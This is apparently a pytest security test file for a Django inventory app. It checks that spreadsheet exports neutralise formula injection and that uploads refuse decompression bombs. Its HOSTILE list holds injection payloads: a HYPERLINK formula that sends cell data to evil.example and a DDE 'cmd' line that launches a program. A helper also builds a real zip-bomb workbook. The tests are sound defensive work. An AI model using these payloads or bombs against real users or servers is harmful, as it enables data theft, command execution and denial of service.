"""Spreadsheets people upload and download are not a way in: exported text never runs as a formula, an upload
is refused by permission before it is read and by its zip directory before it is unpacked."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from openjxc.catalog import services as catalog
from openjxc.core.errors import DomainError
from openjxc.core.models import IdempotencyRecord, Role
from openjxc.partners import services as partners
from openjxc.web import jobs
from openjxc.web.models import Job
from tests.api.conftest import Api

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def test_exported_text_that_looks_like_a_formula_stays_text(client, shop):
    for n, name in enumerate(HOSTILE):
        partners.create_partner(by=shop.admin, code=f"X{n}", name=name, kind="customer")
    catalog.update_item(shop.flour, by=shop.admin, spec="=1+2")
    client.force_login(shop.admin)
    for url in (reverse("web:partners"), reverse("web:items")):
        content = client.get(url, {"export": "xlsx"}).content
        with zipfile.ZipFile(io.BytesIO(content)) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the file
        ws = load_workbook(io.BytesIO(content)).worksheets[0]
        texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
        assert texts and all(c.data_type == "s" and c.quotePrefix for c in texts)
    values = {c.value for row in load_workbook(io.BytesIO(client.get(reverse("web:partners"), {"export": "xlsx"})
                                                          .content)).worksheets[0].iter_rows() for c in row}
    # kept as typed: a re-import gives the same names back (a carriage return comes back as written, or as a line
    # feed where the writer leaves it to XML's end-of-line handling: openpyxl 3.1.5 did, newer releases escape it)
    assert all(h in values or h.replace("\r", "\n") in values for h in HOSTILE)


# ---------------------------------------------------------------- decompression bombs (issue 14 item 2)


def _bomb(string_bytes: int, filler: bytes = b"a") -> bytes:
    """A real workbook (item code, item name, one row) whose item name is one string of `string_bytes`: a few kB
    on the wire."""
    wb = Workbook()
    wb.active.append(["Item code", "Item name", "Base unit"])
    wb.active.append(["B1", "bomb", "PCS"])
    plain = io.BytesIO()
    wb.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert b">bomb<" in data
                data = data.replace(b">bomb<", b">" + filler * string_bytes + b"<")
            dst.writestr(info.filename, data)
    return out.getvalue()


def test_an_upload_is_refused_by_permission_before_any_of_it_is_read(shop):
    cashier = shop.user("till-1", Role.CASHIER)
    with pytest.raises(DomainError) as err:  # not even a zip: still the permission answers first
        jobs.start_import(by=cashier, target="items", data=b"PK\x03\x04 not a workbook", filename="x.xlsx",
                          commit=False)
    assert err.value.code == "permission.denied"
    assert not Job.objects.exists()


def test_a_decompression_bomb_is_refused_from_the_zip_directory_without_unpacking(shop, settings):
    settings.JXC_IMPORT_MAX_UNPACKED_MB = 4
    data = _bomb(16 * 1024 * 1024)
    assert len(data) < 100_000  # 16 MB of text in a small file
    tracemalloc.start()
    try:
        with pytest.raises(DomainError) as err:
            jobs.start_import(by=shop.admin, target="items", data=data, filename="bomb.xlsx", commit=False)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert err.value.code == "import.too_large" and err.value.http_status == 413
    assert err.value.data["max"] == 4
    assert peak < 4 * 1024 * 1024, peak  # the 16 MB string was never built
    assert not Job.objects.exists()


def test_a_part_compressed_beyond_any_real_sheet_is_refused(shop):
    data = _bomb(8 * 1024 * 1024)  # far below the size limit, but compressed about a thousand times
    with pytest.raises(DomainError) as err:
        jobs.start_import(by=shop.admin, target="items", data=data, filename="bomb.xlsx", commit=False)
    assert err.value.code == "import.too_large" and err.value.data["part"] == "xl/worksheets/sheet1.xml"
    assert err.value.data["ratio"] > 200


def test_the_api_answers_a_bomb_with_413_and_keeps_nothing(shop, settings):
    settings.JXC_IMPORT_MAX_UNPACKED_MB = 4
    api = Api(shop.admin)
    r = api.client.post("/api/excel/imports/items/check", {"file": SimpleUploadedFile("b.xlsx", _bomb(16 << 20))},
                        headers={"Idempotency-Key": "bomb-1"})
    assert r.status_code == 413 and r.json()["code"] == "import.too_large", r.content
    assert not Job.objects.exists() and not IdempotencyRecord.objects.exists()


def test_an_ordinary_workbook_still_passes_the_directory_check(shop):
    wb = Workbook()
    wb.active.append(["Item code", "Item name", "Base unit"])
    for n in range(5_000):  # repetitive rows compress well, far from a bomb's ratio
        wb.active.append([f"A{n:05d}", "矿泉水 550ml", "PCS"])
    out = io.BytesIO()
    wb.save(out)
    job = jobs.start_import(by=shop.admin, target="items", data=out.getvalue(), filename="ok.xlsx", commit=False,
                            queue=False)
    assert job.pk
